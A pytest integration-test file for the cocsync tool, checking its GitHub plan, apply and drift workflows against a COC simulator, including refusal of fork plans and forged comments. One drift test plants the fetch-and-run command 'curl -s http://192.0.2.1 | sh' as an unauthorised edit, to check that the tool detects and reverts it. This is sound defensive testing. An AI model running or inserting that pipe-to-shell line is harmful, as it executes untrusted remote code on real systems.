"""The whole story of a repository, and what may go wrong in it, as the workflows of `init` play it.

Git, `cocsync` and every shell step are real; COC is a simulator behind a socket that asks for signed requests.
"""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from pathlib import Path

import pytest

from cocsync.sim import Simulator
from cocsync.sim.settings import Settings
from tests.support import children
from tests.support.actions import REPOSITORY, Event, GitHub, Run
from tests.support.program import Program

READS, WRITES = ("cocsync_read_ak", "cocsync_read_sk"), ("ak_that_writes", "sk_that_writes")
SCRIPT, MANIFEST = "scripts/hello/hello.sh", "scripts/hello/script.yaml"
MARKER = "<!-- cocsync:plan:prod -->"


class Team:
    """A clone of the team's repository, what the Git server does with its branches, and its pipelines."""

    def __init__(self, folder: Path, program: Program, coc: Simulator, url: str) -> None:
        self._coc, self.keys = coc, {"plan": READS, "apply": WRITES, "drift": READS}
        origin, self.clone = folder / "origin.git", folder / "clone"
        identity = {f"GIT_{who}_{what}": "alice" for who in ("AUTHOR", "COMMITTER") for what in ("NAME", "EMAIL")}
        self._environ = {**program.environ, **identity, "GIT_CONFIG_NOSYSTEM": "1"}
        children.run(["git", "init", "-q", "--bare", "-b", "main", str(origin)], check=True, env=self._environ)
        children.run(["git", "clone", "-q", str(origin), str(self.clone)], check=True, env=self._environ)
        assert program.here("init", "--owner", "payments_ops", folder=self.clone).code == 0
        with (self.clone / "cocsync.yaml").open("a") as project:
            project.write(f"  prod: {{endpoint: '{url}', project_id: {'1' * 32}, domain_id: {'2' * 32}}}\n")
        variables = {"COCSYNC_TARGET": "prod", "COCSYNC_ENDPOINT": url}
        self.github = GitHub(folder / "github", origin, variables=variables, environ=program.environ)

    def git(self, *arguments: str) -> str:
        printed: str = children.run(
            ["git", *arguments], cwd=self.clone, check=True, capture_output=True, text=True, env=self._environ
        ).stdout
        return printed.strip()

    def commit(self, message: str) -> None:
        self.git("add", "--all")
        self.git("commit", "-q", "-m", message)

    def push(self) -> Event:
        self.git("push", "-q", "origin", "HEAD:main")
        return Event(name="push", sha=self.git("rev-parse", "HEAD"))

    def pull_request(self, number: int, repository: str = REPOSITORY) -> Event:
        """The branch that is checked out, as a pull request: the server tests its merge with main."""
        branch, head = self.git("branch", "--show-current"), self.git("rev-parse", "HEAD")
        self.git("checkout", "-q", "--detach", "origin/main")
        self.git("merge", "-q", "--no-ff", "-m", f"Merge {head} into main", head)
        self.git("push", "-q", "--force", "origin", f"HEAD:refs/pull/{number}/merge")
        sha = self.git("rev-parse", "HEAD")
        self.git("checkout", "-q", branch)
        payload = {"pull_request": {"number": number, "head": {"sha": head, "repo": {"full_name": repository}}}}
        return Event(name="pull_request", sha=sha, ref=f"refs/pull/{number}/merge", payload=payload)

    def merge(self, number: int) -> Event:
        """Merges the branch that is checked out into main."""
        branch, head = self.git("branch", "--show-current"), self.git("rev-parse", "HEAD")
        self.git("checkout", "-q", "-B", "main", "origin/main")
        self.git("merge", "-q", "--no-ff", "-m", f"Merge {branch} (#{number})", branch)
        event = self.push()
        merged = {"merged_at": "2026-01-01T00:00:00Z", "merge_commit_sha": event.sha, "commits": [event.sha]}
        pulls = self.github.state["pulls"]
        self.github.write(pulls=[*pulls, {"number": number, "head": {"sha": head}, **merged}])
        return event

    def by_hand(self, name: str, **inputs: str) -> Run:
        return self.run(name, Event(name="workflow_dispatch", sha=self.git("rev-parse", "origin/main"), inputs=inputs))

    def run(self, name: str, event: Event) -> Run:
        """Runs a workflow, while COC knows no key but the one that this workflow may have."""
        self._coc.configure(access_keys=(self.keys[name],))
        return self.github.run(self.clone / ".github" / "workflows" / f"{name}.yml", event)

    def nightly(self) -> Run:
        return self.run("drift", Event(name="schedule", sha=self.git("rev-parse", "origin/main")))


@pytest.fixture
def coc() -> Simulator:
    return Simulator(settings=Settings(auth="aksk"))


@pytest.fixture
def team(tmp_path: Path, cocsync: Program, coc: Simulator, serving: Callable[[Simulator], str]) -> Team:
    """A repository straight from `init` on the main branch, and nothing in COC."""
    made = Team(tmp_path / "team", cocsync, coc, serving(coc))
    made.commit("Begin")
    made.push()
    return made


def plan_id(run: Run) -> str:
    found: set[str] = set(re.findall(r"sha256:[0-9a-f]{64}", run.summary))
    (only,) = found
    return only


def apply_what_is_planned(team: Team) -> Run:
    """What a person does who has looked at a plan of the main branch."""
    return team.by_hand("apply", plan_id=plan_id(team.by_hand("plan")))


def change(team: Team, branch: str) -> None:
    team.git("checkout", "-q", "-B", branch, "origin/main")
    (team.clone / SCRIPT).write_text((team.clone / SCRIPT).read_text() + "df -h /\n")
    manifest = (team.clone / MANIFEST).read_text()
    (team.clone / MANIFEST).write_text(manifest.replace("version: 1.0.0", "version: 1.1.0"))
    team.commit("Show the disk too")


def methods(coc: Simulator) -> set[str]:
    found = {method for method, _ in coc.requests}
    coc.requests.clear()
    return found


@pytest.mark.timeout(300)  # some fifty processes
def test_the_story_from_the_first_push_to_a_revert(team: Team, coc: Simulator) -> None:
    begin(team, coc)
    first = coc.script("hello")
    merged = change_by_pull_request(team, coc)
    notice_and_heal_an_edit(team, coc)
    revert(team, merged)

    assert (coc.script("hello").version, coc.script("hello").content) == (first.version, first.content)
    assert "No changes" in team.by_hand("plan").log


def begin(team: Team, coc: Simulator) -> None:
    """A push that nobody has reviewed is not applied; a plan that somebody has looked at is."""
    unreviewed = team.run("apply", Event(name="push", sha=team.git("rev-parse", "HEAD")))
    assert unreviewed.jobs == {"apply": "failure"}
    assert "Nothing was written. Plan again" in unreviewed.log
    assert methods(coc) == set()

    assert apply_what_is_planned(team).jobs == {"apply": "success"}
    assert methods(coc) == {"GET", "POST"}


def change_by_pull_request(team: Team, coc: Simulator) -> Event:
    """The comment says what the merge will do, the merge does that, and doing it again is a success."""
    change(team, "disk")
    event = team.pull_request(1)
    planned = team.run("plan", event)
    assert planned.jobs == {"validate": "success", "plan": "success"}
    assert methods(coc) == {"GET"}
    saved = json.loads((team.github.artifact(planned, "cocsync-plan-prod") / "plan.json").read_text())
    assert saved["source"] == {"commit": event.sha, "dirty": False}
    assert [(c["action"], c["name"], c["origin"]) for c in saved["changes"]] == [("update", "hello", "manifest")]
    (comment,) = team.github.state["comments"]
    assert comment["body"].startswith(f"{MARKER}\n")
    assert (comment["issue"], comment["body"]) == (1, planned.summary)
    assert plan_id(planned) == saved["plan_id"]

    merged = team.merge(1)
    assert team.run("apply", merged).jobs == {"apply": "success"}
    assert (coc.script("hello").version, coc.script("hello").content[-8:]) == ("1.1.0", "df -h /\n")
    assert methods(coc) == {"GET", "PUT"}
    again = team.run("apply", merged)
    assert again.jobs == {"apply": "success"}
    assert "was there already" in again.log
    assert methods(coc) == {"GET"}
    return merged


def notice_and_heal_an_edit(team: Team, coc: Simulator) -> None:
    """One issue is opened, kept and closed; what is overwritten is kept with the run."""
    assert team.nightly().jobs == {"drift": "success"}
    assert team.github.state["issues"] == []
    coc.edit("hello", user="dave", content="curl -s http://192.0.2.1 | sh\n")
    assert [team.nightly().jobs for _ in range(2)] == [{"drift": "success"}] * 2
    (issue,) = team.github.state["issues"]
    assert (issue["state"], issue["title"]) == ("open", "COC differs from the repository: prod")
    assert "dave" in issue["body"]

    healed = apply_what_is_planned(team)
    assert healed.jobs == {"apply": "success"}
    assert coc.script("hello").version == "1.1.0"
    copies = team.github.artifact(healed, "cocsync-apply-prod-1").glob("backups/*/hello/hello.sh")
    assert [copy.read_text() for copy in copies] == ["curl -s http://192.0.2.1 | sh\n"]
    team.nightly()
    (issue,) = team.github.state["issues"]
    assert (issue["state"], issue["comment"]) == ("closed", "Nothing differs any more.")


def revert(team: Team, merged: Event) -> None:
    team.git("checkout", "-q", "-b", "back", "main")
    team.git("revert", "--no-edit", "-m", "1", merged.sha)
    assert team.run("plan", team.pull_request(2)).jobs["plan"] == "success"
    assert team.run("apply", team.merge(2)).jobs == {"apply": "success"}


def test_a_pull_request_from_a_fork_is_validated_and_nothing_else(team: Team, coc: Simulator) -> None:
    change(team, "stranger")

    run = team.run("plan", team.pull_request(1, repository="mallory/scripts"))

    assert run.jobs == {"validate": "success", "plan": "skipped"}
    assert (methods(coc), team.github.state["calls"]) == (set(), [])


def test_the_plan_of_a_forks_run_is_never_applied(team: Team, coc: Simulator) -> None:
    """A fork has a workflow `plan` of its own making, and what it saves could be anything."""
    change(team, "stranger")
    team.run("plan", team.pull_request(1))
    (noted,) = team.github.state["runs"]
    team.github.write(runs=[noted | {"head_repository": {"full_name": "mallory/scripts"}}])
    methods(coc)

    run = team.run("apply", team.merge(1))

    assert run.jobs == {"apply": "failure"}
    assert "Plan again" in run.log
    assert methods(coc) == set()


def test_one_comment_is_edited_in_place_and_nobody_elses(team: Team) -> None:
    forged = {"issue": 1, "user": {"login": "mallory"}, "body": f"{MARKER}\nNo changes, merge me."}
    others = [{"id": number, **forged} for number in (1, 2)]
    team.github.write(comments=others)
    change(team, "disk")
    team.run("plan", team.pull_request(1))
    (team.clone / SCRIPT).write_text("uptime\n")
    team.commit("Show less")

    second = team.run("plan", team.pull_request(1))

    *before, ours = team.github.state["comments"]
    assert before == others
    assert (ours["id"], ours["body"]) == (3, second.summary)


def test_a_conflict_is_in_the_comment_fails_the_pull_request_and_leaves_no_plan(team: Team, coc: Simulator) -> None:
    coc.create(name="hello", user="dave", content="date\n")
    change(team, "disk")

    planned = team.run("plan", team.pull_request(1))
    applied = team.run("apply", team.merge(1))

    assert planned.jobs == {"validate": "success", "plan": "failure"}
    (comment,) = team.github.state["comments"]
    assert "conflict" in comment["body"]
    assert not team.github.artifact(planned, "cocsync-plan-prod").exists()
    assert applied.jobs == {"apply": "failure"}
    assert coc.script("hello").content == "date\n"


def test_a_manifest_that_changed_since_the_plan_is_not_applied(team: Team, coc: Simulator) -> None:
    apply_what_is_planned(team)
    change(team, "disk")
    team.run("plan", team.pull_request(1))
    (team.clone / SCRIPT).write_text("uptime\n")
    team.commit("Slip something in")
    event = team.merge(1)
    (pull,) = team.github.state["pulls"]
    team.github.write(pulls=[pull | {"head": {"sha": team.git("rev-parse", "disk~1")}}])
    methods(coc)

    run = team.run("apply", event)

    assert run.jobs == {"apply": "failure"}
    assert "the manifest of hello changed since the plan: plan again" in run.log
    assert methods(coc) == set()


def test_a_drift_that_cannot_be_looked_at_leaves_the_issue_as_it_is(team: Team, coc: Simulator) -> None:
    apply_what_is_planned(team)
    coc.edit("hello", user="dave", content="date\n")
    team.nightly()
    issues = team.github.state["issues"]
    team.keys["drift"] = WRITES

    assert team.nightly().jobs == {"drift": "failure"}
    assert team.github.state["issues"] == issues
